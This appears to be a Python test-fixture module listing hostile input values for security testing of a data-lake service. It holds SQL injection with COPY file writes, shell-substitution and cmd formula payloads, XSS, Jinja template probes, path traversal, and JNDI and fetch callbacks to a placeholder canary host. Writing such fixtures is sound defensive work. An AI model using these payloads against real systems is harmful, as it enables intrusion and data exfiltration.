"""Hostile values, by type. ``@RAN@`` and the like are places of the room (``Room.fill``)."""

from __future__ import annotations

from typing import Final

NAMES: Final = {
    "sql-quote": "x'; COPY (SELECT 1) TO '@RAN@'; --",
    "sql-double-quote": "x\"; COPY (SELECT 1) TO '@RAN@'; --",
    "braces": "{rows} {0} {runs} {{x}}",
    "format": "%s %n %(x)s {0.__class__.__mro__}",
    "script": '"><img src=http://@CANARY@/x onerror="alert(1)"></title><script>fetch(\'/\')</script>',
    "right-to-left": "\u202eevil\u2066\u2069",
    "nul": "a\x00b",
    "newlines": "a\r\nb\nc\u2028d\x85e",
    "formula": "=cmd|'/C touch @RAN@'!A0",
    "formula-tab": "\t=1+1",
    "parents": "../../../../outside/ran",
    "percent": "%2e%2e%2f%2e%2e%2foutside%2fran",
    "absolute": "@RAN@",
    "shell": "$(touch @RAN@) `touch @RAN@` ;touch @RAN@|",
    "jinja": "{{7*7}}{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}",
    "vega": "datum['constructor']['constructor']('return fetch(\"http://@CANARY@/\")')()",
    "jndi": "${jndi:ldap://@CANARY@/x}",
    "mail-header": "x\r\nBcc: evil@example.org\r\n\r\nbody",
    "terminal": "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x9b2K",
    "emoji": "😀" * 60,
    "reserved": "__other__",
    "longest": "x" * 1000,
    "too-long": "y" * 10_000,
    "empty": "",
}
"""Names that those choose who may connect to a broker, or create something there."""

_COPY: Final = (
    "COPY (SELECT content FROM read_text('@OUTSIDE@')) TO '@RAN@' (FORMAT csv, HEADER false)"
)
_LAST: Final = 'SELECT * FROM (SELECT 1 AS first_seen, 2 AS last_seen, 1 AS "y'

COLUMNS: Final = {
    "statement": f'rack") r; {_COPY}; {_LAST}',
    "statement-select": f'source" FROM raw); {_COPY}; {_LAST}',
    "statement-bare": f'source"; {_COPY}; SELECT 1 AS "y',
    "subquery": "source\", (SELECT content FROM read_text('@OUTSIDE@')) AS \"y",
    "backtick": "x` , (SELECT 1) AS `y",
    "braces": "{rows} {runs}",
    "newline": "x\n; y",
    "script": "<script>alert(1)</script>",
    "jndi": "${jndi:ldap://@CANARY@/x}",
    "emoji": "😀",
    "long": "c" * 300,
    "case": "SOURCE_",
    "quote": "it's",
    "dotted": "a.b.c",
    "star": "*",
}
"""Names of columns that are not declared."""

FOLDERS: Final = {
    "space": "my lake",
    "percent": "a%20b",
    "percent-percent": "100%25",
    "hash": "l#1",
    "question": "l?1",
    "question-equals": "l?versionId=1",
    "star": "st*r",
    "brackets": "br[ab]",
    "brace": "b{a,b}",
    "brace-name": "{rows}",
    "quote": "it's",
    "double-quote": 'say "x"',
    "backslash": "back\\slash",
    "semicolon": "a; COPY (SELECT 1) TO 'ran'",
    "dollar": "$HOME",
    "backtick": "b`tick`",
    "dash": "-x",
    "option": "--help",
    "colon": "c:d",
    "at": "user@host",
    "ampersand": "a&b",
    "plus": "a+b",
    "equals": "a=b",
    "comma": "a,b",
    "tilde": "~root",
    "emoji": "😀",
    "right-to-left": "\u202eabc",
    "umlaut": "Ü",
    "decomposed": "u\u0308",
    "newline": "a\nb",
    "escape": "a\x1b[2Jb",
    "script": "<script>alert(1)<",
    "dots": "...",
    "double-encoded": "a%2520b",
    "encoded-slash": "a%2F..%2Fb",
    "long": "n" * 200,
}
"""Names of a lake's own folder."""
